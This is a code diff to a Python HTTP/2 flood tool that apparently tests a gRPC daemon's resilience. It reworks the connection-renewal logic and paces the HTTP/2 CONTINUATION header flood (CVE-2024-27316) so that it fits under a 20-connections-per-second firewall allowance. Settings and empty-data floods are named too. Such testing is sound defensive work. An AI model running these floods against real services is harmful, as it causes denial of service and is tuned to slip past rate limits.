@@ -41,6 +41,7 @@ LINES = 4
 """Connections of one attacker where more would not be worse."""
 BATCH = 100
 """Requests in one write: what does not fill the socket's buffer goes faster."""
+CONNECTIONS_A_SECOND = 20
 MAX_WINDOW = 2**31 - 1
 
 
@@ -71,18 +72,20 @@ Attack = Callable[[Target], Awaitable[None]]
 Wave = Callable[[Line], bytes]
 
 
-async def flood(target: Target, wave: Wave, what: str, each: int, settings: bytes = b"") -> None:
-    """Sends waves on a few connections for as long as it lasts; connects anew whenever it is cut off."""
+async def flood(target: Target, wave: Wave, what: str, each: int, *, pause_s: float = 0.01) -> None:
+    """Sends waves on a few connections for as long as it lasts; connects anew, after a pause, when it is cut off."""
     until = time.monotonic() + target.seconds
 
     async def one() -> None:
         line: Line | None = None
         while time.monotonic() < until:
             if line is None or line.over:
-                line = await renewed(target, line, settings)
+                line = await renewed(target, line, pause_s)
                 continue
-            if await line.send(wave(line)):
-                target.seen[what] += each
+            with suppress(TimeoutError):
+                async with asyncio.timeout(max(0.0, until - time.monotonic())):  # a daemon that reads no more ends it
+                    if await line.send(wave(line)):
+                        target.seen[what] += each
             await asyncio.sleep(0)
         if line is not None:
             await line.close()
@@ -90,14 +93,14 @@ async def flood(target: Target, wave: Wave, what: str, each: int, settings: byte
     await asyncio.gather(*(one() for _ in range(LINES)))
 
 
-async def renewed(target: Target, line: Line | None, settings: bytes) -> Line | None:
+async def renewed(target: Target, line: Line | None, pause_s: float) -> Line | None:
     """A connection in the place of one that was closed; None = not let in now."""
     if line is not None:
         target.seen["cut off"] += 1
         await line.close()
-        await asyncio.sleep(0.01)
+        await asyncio.sleep(pause_s)
     with suppress(OSError, TimeoutError):
-        return await target.line(settings)
+        return await target.line()
     await asyncio.sleep(0.05)
     return None
 
@@ -208,7 +211,9 @@ async def settings_flood(target: Target) -> None:
 
 
 async def continuations(target: Target) -> None:
-    """Headers that never end (2024: CVE-2024-27316 and others)."""
+    """Headers that never end, on the 20 new connections a second that docs/security.md has a firewall allow: each is
+    cut off for them, and costs what it has sent by then until gRPC gets round to throwing that away.
+    """
     piece = literal(b"k", b"v" * 100)
 
     def wave(line: Line) -> bytes:
@@ -216,7 +221,7 @@ async def continuations(target: Target) -> None:
         head = frame(HEADERS, 0, stream, block(CHECK))
         return head + frame(CONTINUATION, 0, stream, piece * 150) * 60
 
-    await flood(target, wave, "CONTINUATIONs", 60)
+    await flood(target, wave, "CONTINUATIONs", 60, pause_s=LINES / CONNECTIONS_A_SECOND)
 
 
 async def empty_data(target: Target) -> None:
